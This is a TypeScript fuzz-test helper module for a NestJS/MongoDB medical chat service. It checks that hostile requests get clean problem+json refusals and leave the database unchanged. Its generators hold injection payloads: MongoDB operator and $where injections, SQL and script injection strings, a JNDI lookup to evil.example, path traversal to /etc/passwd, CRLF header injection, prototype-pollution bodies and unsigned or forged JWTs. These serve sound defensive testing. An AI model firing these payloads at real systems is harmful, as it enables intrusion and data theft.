import { createHmac } from 'node:crypto';
import { Agent, request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { getConnectionToken } from '@nestjs/mongoose';
import fc from 'fast-check';
import type { Connection } from 'mongoose';
import type { TestApp } from '../../support/test-app.js';

/**
 * Shared pieces of the hostile-input suites: a keep-alive HTTP client that sends exactly the
 * bytes and headers it is given, a watch on what the store holds, the invariants every answer
 * must keep, and arbitraries of hostile values, bodies, query strings and headers.
 */

export interface RawRequest {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

export interface RawResponse {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
}

/** node:http with one keep-alive agent per suite: fetch would refuse or rewrite some of the headers sent here. */
export class RawClient {
  private readonly agent = new Agent({ keepAlive: true, maxSockets: 4 });

  constructor(private readonly baseUrl: string) {}

  send(request: RawRequest): Promise<RawResponse> {
    return new Promise((resolve, reject) => {
      const body =
        request.body === undefined
          ? undefined
          : Buffer.isBuffer(request.body)
            ? request.body
            : Buffer.from(request.body, 'utf8');
      const outgoing = httpRequest(
        `${this.baseUrl}${request.path}`,
        {
          method: request.method,
          agent: this.agent,
          headers: { ...request.headers, ...(body ? { 'content-length': String(body.length) } : {}) },
          timeout: 20_000,
        },
        (response) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () =>
            resolve({
              status: response.statusCode ?? 0,
              headers: response.headers,
              text: Buffer.concat(chunks).toString('utf8'),
            }),
          );
          response.on('error', reject);
        },
      );
      outgoing.on('timeout', () =>
        outgoing.destroy(new Error(`no answer within 20 s: ${request.method} ${request.path}`)),
      );
      outgoing.on('error', reject);
      outgoing.end(body);
    });
  }

  close(): void {
    this.agent.destroy();
  }
}

/**
 * Collections that refused requests are meant to write to: the sign-in failure counter, the
 * audit trail, the shared rate-limit counters, and the scheduler's leases (a timer, not a request).
 */
const MAY_CHANGE_ON_REFUSAL = /^(login_failures|audit_events|rate_limit_counters|scheduler_leases)$/;

/** Document counts of every collection a refused request must leave alone. */
export class StoreWatch {
  private readonly connection: Connection;

  constructor(app: TestApp) {
    this.connection = app.medchat.app.get<Connection>(getConnectionToken(), { strict: false });
  }

  async counts(): Promise<Record<string, number>> {
    const db = this.connection.db!;
    const collections = await db.listCollections({}, { nameOnly: true }).toArray();
    const names = collections.map((collection) => collection.name).filter((name) => !MAY_CHANGE_ON_REFUSAL.test(name));
    const counts = await Promise.all(names.map((name) => db.collection(name).estimatedDocumentCount()));
    return Object.fromEntries(names.map((name, index) => [name, counts[index]!]).filter(([, count]) => count !== 0));
  }
}

export interface Verdict {
  ok: boolean;
  why?: string;
}

/**
 * What every answer to any request must be: never a 5xx; a 4xx is problem+json whose `status`
 * matches and whose `detail` is a sentence; and a refused request stored nothing.
 */
export function judge(response: RawResponse, before: Record<string, number>, after: Record<string, number>): Verdict {
  if (response.status >= 500) return { ok: false, why: `${response.status}: ${response.text.slice(0, 300)}` };
  if (response.status < 400) return { ok: true };
  const type = String(response.headers['content-type'] ?? '');
  if (!type.startsWith('application/problem+json'))
    return { ok: false, why: `${response.status} with content-type ${type}` };
  let problem: { status?: unknown; detail?: unknown; request_id?: unknown };
  try {
    problem = JSON.parse(response.text) as typeof problem;
  } catch {
    return { ok: false, why: `${response.status} with a body that is not JSON: ${response.text.slice(0, 200)}` };
  }
  if (problem.status !== response.status)
    return { ok: false, why: `problem status ${String(problem.status)} on a ${response.status}` };
  if (typeof problem.detail !== 'string' || problem.detail.trim() === '')
    return { ok: false, why: 'problem without a detail' };
  if (/\n\s+at |node:internal|Mongo\w*Error|TypeError|ReferenceError/.test(problem.detail))
    return { ok: false, why: `internal detail leaked: ${problem.detail}` };
  if (typeof problem.request_id !== 'string') return { ok: false, why: 'problem without request_id' };
  if (JSON.stringify(before) !== JSON.stringify(after)) {
    return {
      ok: false,
      why: `a refused request (${response.status}) changed the store: ${JSON.stringify(before)} → ${JSON.stringify(after)}`,
    };
  }
  return { ok: true };
}

/** Sends a request between two store snapshots and fails the property with the reason when the verdict is bad. */
export async function sendAndJudge(
  client: RawClient,
  watch: StoreWatch,
  request: RawRequest,
  stats?: FuzzStats,
): Promise<RawResponse> {
  const before = await watch.counts();
  const response = await client.send(request);
  const after = await watch.counts();
  stats?.record(response.status);
  const verdict = judge(response, before, after);
  if (!verdict.ok)
    throw new Error(
      `${request.method} ${request.path.slice(0, 200)} → ${verdict.why}\nbody: ${String(request.body ?? '').slice(0, 300)}\nheaders: ${JSON.stringify(request.headers).slice(0, 300)}`,
    );
  return response;
}

/** How many cases each suite tried, by status, for the report. */
export class FuzzStats {
  readonly byStatus = new Map<number, number>();

  record(status: number): void {
    this.byStatus.set(status, (this.byStatus.get(status) ?? 0) + 1);
  }

  get total(): number {
    return [...this.byStatus.values()].reduce((sum, count) => sum + count, 0);
  }

  summary(): string {
    return [...this.byStatus]
      .sort(([a], [b]) => a - b)
      .map(([status, count]) => `${status}×${count}`)
      .join(' ');
  }
}

// ---- tokens --------------------------------------------------------------------------------

const base64url = (value: string | Buffer) => Buffer.from(value).toString('base64url');

/** An HS256 JWT with any header and claims (well-formed or not), signed with `secret`. */
export function signJwt(
  claims: unknown,
  secret: string,
  header: Record<string, unknown> = { alg: 'HS256', typ: 'JWT' },
): string {
  return signJwtText(JSON.stringify(claims), secret, header);
}

/** The same with the claims as JSON text, for keys an object literal cannot hold (`__proto__`). */
export function signJwtText(
  claimsJson: string,
  secret: string,
  header: Record<string, unknown> = { alg: 'HS256', typ: 'JWT' },
): string {
  const unsigned = `${base64url(JSON.stringify(header))}.${base64url(claimsJson)}`;
  return `${unsigned}.${createHmac('sha256', secret).update(unsigned).digest('base64url')}`;
}

/** The same, with `alg: none` and no signature. */
export function unsignedJwt(claims: unknown): string {
  return `${base64url(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${base64url(JSON.stringify(claims))}.`;
}

// ---- arbitraries ---------------------------------------------------------------------------

/** Values that reach MongoDB as query operators if anything passes them through unchecked. */
export const operatorObject = fc.constantFrom<unknown>(
  { $ne: null },
  { $gt: '' },
  { $regex: '.*' },
  { $where: 'sleep(1000) || true' },
  { $in: [] },
  { $exists: true },
  { $expr: { $eq: [1, 1] } },
  { $function: { body: 'return true', args: [], lang: 'js' } },
);

const printable = (text: string) => /^[\x20-\x7e]*$/.test(text);

export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '\u0000',
      '\uFEFF',
      '\u202Eevil',
      '\uD800',
      'null',
      '{}',
      '[]',
      '<script>alert(1)</script>',
      "'; DROP TABLE patients; --",
      '${jndi:ldap://evil.example/a}',
      '../../../../etc/passwd',
      '%00%0d%0a',
      '\r\nX-Injected: 1',
      '$ne',
      '__proto__',
      'constructor',
      'Adam631_Cronin387_aff8f143-2375-416f-901d-b0e4c73e3e58',
      'Adam631_Cronin387_AFF8F143-2375-416F-901D-B0E4C73E3E58',
      '0b6f6e36-8a57-4c0b-9d7e-3f4d5c1e2a10',
      'MTc2ODQ4NzQyODEyMy42Nzg4ZjJhNGMxZDJlM2Y0YTViNmM3ZDg',
    ),
  },
  // Long and very long strings (the latter past the 1 MB body limit, some of them).
  { weight: 1, arbitrary: fc.integer({ min: 5_000, max: 6_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 1_200_000 }).map((n) => 'é'.repeat(n / 2)) },
);

export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, 0.5),
);

/** Any JSON value, biased towards what breaks handlers: wrong types, operators, nesting, nulls. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    operatorObject,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('$ne', '$gt', 'message', 'patient_id', 'role')),
      tie('value'),
      { maxKeys: 4 },
    ),
  ),
})).value;

/**
 * A JSON object whose known fields are each absent, valid or hostile, plus stray keys. `fields`
 * maps each field to arbitraries of valid values.
 */
export function bodyObject(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
  const entries = Object.entries(fields).map(([name, valid]) =>
    fc
      .option(fc.oneof({ weight: 2, arbitrary: valid }, { weight: 3, arbitrary: hostileValue }), {
        nil: undefined,
        freq: 4,
      })
      .map((value) => [name, value] as const),
  );
  const extras = fc.dictionary(
    fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.constantFrom('role', 'isAdmin', 'roles', '$where', 'status', 'patient_id'),
    ),
    hostileValue,
    { maxKeys: 2 },
  );
  return fc.tuple(fc.tuple(...entries), fc.option(extras, { freq: 4, nil: undefined })).map(([pairs, extra]) => {
    const body: Record<string, unknown> = {};
    for (const [name, value] of pairs) if (value !== undefined) body[name] = value;
    if (extra)
      for (const [key, value] of Object.entries(extra))
        Object.defineProperty(body, key, { value, enumerable: true, writable: true, configurable: true });
    return body;
  });
}

/** Texts that are not a plain JSON object: malformed, truncated, prototype keys, deep nesting, other types. */
export const hostileBodyText = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.constantFrom(
    '',
    '{',
    '{"message":',
    '{"message":"unterminated',
    '{"a":1,}',
    "{'message':'single quotes'}",
    '{"message":"x"}{"message":"y"}',
    '{"message":"dup","message":{"$ne":null}}',
    'null',
    'true',
    '42',
    '"a string"',
    '[]',
    '[{"message":"in an array"}]',
    '{"__proto__":{"role":"admin","isAdmin":true}}',
    '{"message":"hi","__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"message":"hi","constructor":{"prototype":{"role":"admin"}}}',
    '{"patient_id":{"$ne":null}}',
    '{"message":{"$gt":""}}',
    '{"message":"\\ud800"}',
    '{"message":1e999}',
    '\uFEFF{"message":"bom"}',
  ),
  fc.integer({ min: 1_000, max: 200_000 }).map((depth) => `{"message":${'['.repeat(depth)}${']'.repeat(depth)}}`),
  fc.integer({ min: 1_000, max: 100_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
);

/** A body as sent: mostly a JSON-encoded object of the endpoint's shape, sometimes anything at all. */
export function bodyText(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: bodyObject(fields).map((body) => JSON.stringify(body)) },
    { weight: 2, arbitrary: hostileValue.map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 2, arbitrary: hostileBodyText },
  );
}

/** Percent-encodes the UTF-8 bytes of any string, lone surrogates included (encodeURIComponent throws on those). */
export function percentEncode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** A query string built from the endpoint's parameters (valid or hostile), bracket operators and prototype keys. */
export function queryString(params: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<string> {
  const names = Object.keys(params);
  const key = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...names) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        ...names.flatMap((name) => [`${name}[$ne]`, `${name}[$gt]`, `${name}[]`, `${name}[0]`]),
        '__proto__',
        '__proto__[role]',
        'constructor[prototype][isAdmin]',
        '$where',
        'role',
      ),
    },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
  );
  const value = (name: string) =>
    fc.oneof(
      { weight: 3, arbitrary: Object.hasOwn(params, name) ? params[name]! : fc.string({ maxLength: 20 }) },
      { weight: 2, arbitrary: hostileString.filter((text) => text.length < 3000) },
    );
  const pair = key.chain((name) => value(name).map((text) => `${percentEncode(name)}=${percentEncode(text)}`));
  return fc.array(pair, { maxLength: 4 }).map((pairs) => (pairs.length === 0 ? '' : `?${pairs.join('&')}`));
}

/** Header values that Node's client will send (printable ASCII), from the plausible to the absurd. */
export const contentTypeHeader = fc.oneof(
  { weight: 6, arbitrary: fc.constant('application/json') },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;;;',
      'application/json; charset="utf-8"',
      'application/problem+json',
      'application/vnd.api+json',
      'text/plain',
      'text/html',
      'application/xml',
      'application/x-www-form-urlencoded',
      'application/octet-stream',
      'multipart/form-data',
      'multipart/form-data; boundary=----fuzz',
      '*/*',
      'application/json, text/plain',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }).filter(printable) },
);

export const requestIdHeader = fc.oneof(
  fc.uuid(),
  fc.string({ maxLength: 200 }).filter(printable),
  fc.constant('a'.repeat(129)),
);

/** Extra headers a hostile client adds; never Authorization, Content-Type or Content-Length (chosen apart). */
export const extraHeaders = fc.record(
  {
    'x-request-id': requestIdHeader,
    accept: fc.constantFrom('*/*', 'text/event-stream', 'application/xml', 'application/json;q=0', 'garbage'),
    'x-forwarded-for': fc.constantFrom('1.2.3.4', '127.0.0.1, 10.0.0.1', 'not-an-ip', '::1', ''),
    origin: fc.constantFrom('https://evil.example', 'null', 'http://localhost:3000'),
    'content-encoding': fc.constantFrom('gzip', 'br', 'identity', 'x-unknown'),
    'accept-encoding': fc.constantFrom('gzip', 'br;q=1, *;q=0', 'identity'),
    cookie: fc.string({ maxLength: 60 }).filter(printable),
    'x-http-method-override': fc.constantFrom('DELETE', 'PUT', 'GET'),
  },
  { requiredKeys: [] },
);
